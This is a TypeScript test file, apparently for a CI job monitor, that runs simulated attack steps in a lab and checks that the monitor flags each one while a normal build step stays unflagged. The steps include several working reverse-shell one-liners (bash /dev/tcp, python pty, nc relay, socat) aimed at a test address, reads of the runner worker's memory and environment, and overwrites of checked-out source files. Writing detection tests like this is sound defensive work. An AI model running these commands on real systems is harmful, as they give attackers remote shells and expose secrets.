/**
 * The promise of the observer: what an attack does beside its connections is told, with its step; what a build does is not. Also
 * while two programs keep the processors busy.
 */
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import type { JobReport } from "../../src/machine/job-report.ts";
import type { LabProcess } from "../lab/process.ts";
import { requireTools } from "../lab/tools.ts";
import { Busy } from "./busy.ts";
import { type JobResult, Runner } from "./harness.ts";

const far = "203.0.113.77";
const port = 4_444;
const listener = `require("node:net").createServer((s) => s.on("error", () => {})).listen(${port}, "${far}", () => console.log("listening"))`;
/** Runs a command in the background until two seconds after process `pid` has its input from there. */
const shell = (command: string, pid: string, input: string) =>
  `${command} &\nuntil readlink /proc/${pid}/fd/0 | grep -q ${input}; do sleep 0.1; done\nsleep 2\nkill -KILL $! || true`;
/** As a package manager does: a shell on pipes, under a program that has a connection. */
const harmless = `import socket,subprocess
s = socket.create_connection(("${far}", ${port}))
subprocess.run(["sh", "-c", "cat; sleep 1"], input=b"x", stdout=subprocess.PIPE)`;
const checkout = `
import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
mkdirSync("src", { recursive: true });
for (const name of ["a.txt", "src/b.txt", "src/c.txt"]) writeFileSync(name, "as checked out");
for (const args of [["init", "-q"], ["add", "."]]) execFileSync("git", args, { stdio: "inherit" });
`;

describe("a job that does more than build", () => {
  let runner: Runner;
  let attacker: LabProcess;
  let busy: Busy | null = null;
  let job: JobResult;
  let report: JobReport;
  const told = (type: string) => report.detections.filter((each) => each.type === type);
  const steps = (type: string) => told(type).map(({ process }) => process?.step ?? null);

  before(async () => {
    requireTools(["curl", "git", "sudo"]);
    runner = await Runner.create();
    attacker = runner.host.lab.world.spawn(process.execPath, ["-e", listener]);
    await attacker.waitFor(/listening/, 10_000);
    const folder = join(runner.home, "work/_actions/actions/checkout/v4");
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, "main.mjs"), checkout);
    busy = new Busy(runner);
    const worker = `$(for p in /proc/[0-9]*; do case "$(readlink $p/exe)" in ${runner.home}/bin/Runner.Worker) echo $p;; esac; done)`;
    job = await runner.run([
      runner.sallyport({ "egress-policy": "audit" }),
      busy.step,
      { id: "__actions_checkout", action: "actions/checkout", folder, main: "main.mjs" },
      {
        id: "build",
        run: `git status --short > /dev/null\necho made > out.txt\necho made > src/made.txt\npython3 -c '${harmless}'\necho 'cat' | bash | sh -c 'cat > /dev/null'\nps auxe > /dev/null\ncurl -sS --max-time 5 -k https://203.0.113.11/ > /dev/null || true`,
      },
      { id: "overwrite", run: "echo backdoor >> a.txt\nsed -i s/as/was/ src/b.txt" },
      { id: "direct", run: shell(`bash -c 'exec bash -i >& /dev/tcp/${far}/${port} 0>&1'`, "$!", "socket") },
      {
        id: "terminal",
        run: shell(
          `python3 -c 'import socket,os,pty
s = socket.create_connection(("${far}", ${port}))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")'`,
          "$(pgrep -P $! -x bash)",
          "/dev/pts",
        ),
      },
      {
        id: "relay",
        run: `mkfifo f\n${shell(`{ cat f | sh -i 2>&1 | nc ${far} ${port} > f; }`, "$(pgrep -x nc)", "pipe")}\npkill -u runner -x nc || true\nrm f`,
      },
      {
        id: "socat",
        run: shell(`socat TCP:${far}:${port} EXEC:/bin/bash`, "$(pgrep -P $! -x bash)", "socket"),
      },
      { id: "memory", run: `exec 3< ${worker}/mem\nexec 4< ${worker}/environ` },
      {
        id: "daemon",
        run: `(sleep 2; curl -sS --max-time 2 -k https://203.0.113.11/; touch connected; sleep 60) > /dev/null 2>&1 &\nsleep 0.5`,
      },
      { id: "later", run: "until [ -e connected ]; do sleep 0.1; done" },
    ]);
    assert.ok(busy.end(), "it was busy");
    report = runner.report(job).report;
  });
  after(async () => {
    busy?.end();
    await attacker?.kill("SIGKILL");
    await runner?.close();
  });

  test("a shell on a connection is told, and one behind a pipe or another program", () => {
    assert.deepEqual(
      steps("reverse_shell"),
      ["direct", "terminal", "relay", "socat"],
      JSON.stringify([job.results, report.detections], null, 1),
    );
    for (const each of told("reverse_shell")) assert.match(each.message, new RegExp(`shell for ${far}:${port}`));
  });

  test("looks into the worker's memory and environment are told", () => {
    assert.deepEqual(steps("worker_memory"), ["memory"]);
    assert.deepEqual(steps("worker_environment"), ["memory"]);
  });

  test("tracked files written by a later step are one finding", () => {
    assert.deepEqual(steps("source_overwritten"), ["overwrite"]);
    const [found] = told("source_overwritten");
    assert.match(found!.message, /wrote 2 files after they were checked out: a\.txt, src\/b\.txt/);
  });

  test("what a step left running is told when it connects, and at the end", () => {
    assert.deepEqual(steps("background_connection"), ["daemon"]);
    assert.ok(steps("left_running").includes("daemon"));
  });

  test("nothing of the build is told", () => {
    assert.deepEqual(
      report.detections
        .filter(({ process }) => process === null || process?.step === "build")
        .map(({ message }) => message),
      [],
    );
    assert.ok(!report.limits.some((each) => each.includes("not watched")), report.limits.join("\n"));
  });
});
